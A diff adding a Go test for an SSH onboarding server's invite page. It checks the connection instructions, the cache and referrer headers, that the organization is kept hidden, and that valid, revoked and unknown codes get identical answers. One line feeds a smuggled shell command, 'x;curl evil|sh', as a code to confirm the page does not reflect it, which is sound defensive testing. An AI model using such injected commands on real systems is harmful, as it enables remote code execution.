@@ -3,8 +3,10 @@ package sshserve
 import (
 	"context"
 	"io"
+	"net/http"
 	"os"
 	"path/filepath"
+	"reflect"
 	"regexp"
 	"strings"
 	"testing"
@@ -96,4 +98,56 @@ func TestServeRecordsItsSSHAddressForInvites(t *testing.T) {
 		time.Sleep(20 * time.Millisecond)
 	}
 	t.Fatal("serve never recorded its SSH address")
+}
+
+// The invite page at PUBLIC_URL/i/CODE says how to connect: the ssh
+// command with the code, the host key to compare, a line for Windows;
+// nothing of the organization. Opening it does not use the code up, and
+// a code that works, one withdrawn and one never made get answers alike
+// but for the code itself: the same status, headers and page.
+func TestInvitePageSaysHowToConnectAndTellsNothing(t *testing.T) {
+	t.Parallel()
+	s := sshStart(t, func(o *ServerOptions) { o.SSHHost = "onboard.example.com:2222" })
+	get := func(code string) (int, http.Header, string) {
+		t.Helper()
+		resp, err := http.Get(s.url + "/i/" + code)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		body, err := io.ReadAll(resp.Body)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Header.Del("Date")
+		return resp.StatusCode, resp.Header, strings.ReplaceAll(string(body), code, "CODE")
+	}
+	good, _ := s.invite(t, "Initech Secret Org")
+	withdrawn, inv := s.invite(t, "Initech Secret Org")
+	if err := s.st.RevokeInvite(t.Context(), inv.ID); err != nil {
+		t.Fatal(err)
+	}
+	status, header, page := get(good)
+	fingerprint := gossh.FingerprintSHA256(s.srv.opts.HostKey.PublicKey())
+	for _, want := range []string{"ssh -p 2222 CODE@onboard.example.com", "ssh -p 2222 setup@onboard.example.com", fingerprint, "Windows"} {
+		if !strings.Contains(page, want) {
+			t.Errorf("the invite page lacks %q:\n%s", want, page)
+		}
+	}
+	if status != http.StatusOK || header.Get("Cache-Control") != "no-store" || header.Get("Referrer-Policy") != "no-referrer" ||
+		strings.Contains(page, "Initech") {
+		t.Errorf("invite page: %d %v\n%s", status, header, page)
+	}
+	if _, err := s.st.LookupInvite(t.Context(), good); err != nil {
+		t.Errorf("opening the page used the code up: %v", err)
+	}
+	for _, other := range []string{withdrawn, "zzzz-zzzz-zzzz-zzzz"} {
+		st, h, p := get(other)
+		if st != status || !reflect.DeepEqual(h, header) || p != page {
+			t.Errorf("the page for %s differs from a working code's: %d %v\n%s", other, st, h, p)
+		}
+	}
+	if st, _, p := get("x;curl%20evil%7Csh"); st != status || strings.Contains(p, "curl") || !strings.Contains(p, "setup@onboard.example.com") {
+		t.Errorf("a URL without a code's shape: %d\n%s", st, p)
+	}
 }
